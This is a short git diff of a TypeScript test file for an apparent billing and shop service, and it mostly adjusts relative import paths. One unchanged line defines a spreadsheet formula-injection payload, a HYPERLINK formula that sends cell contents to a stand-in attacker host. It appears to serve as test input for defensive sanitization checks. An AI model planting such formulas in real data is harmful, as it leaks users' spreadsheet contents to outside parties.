@@ -2,10 +2,10 @@ import { once } from 'node:events';
 import { request as httpRequest, type IncomingMessage } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { createTestBillpay, type TestBillpay } from '../../test/support/billpay/billpay.ts';
-import { createTestService, type TestService } from '../../test/support/service.ts';
-import { openShop, plainNote, plainReceipt, type Shop } from '../../test/support/shop.ts';
-import { issueToken } from '../fiscal/index.ts';
+import { createTestBillpay, type TestBillpay } from '../../../test/support/billpay/billpay.ts';
+import { createTestService, type TestService } from '../../../test/support/service.ts';
+import { openShop, plainNote, plainReceipt, type Shop } from '../../../test/support/shop.ts';
+import { issueToken } from '../../fiscal/index.ts';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
 
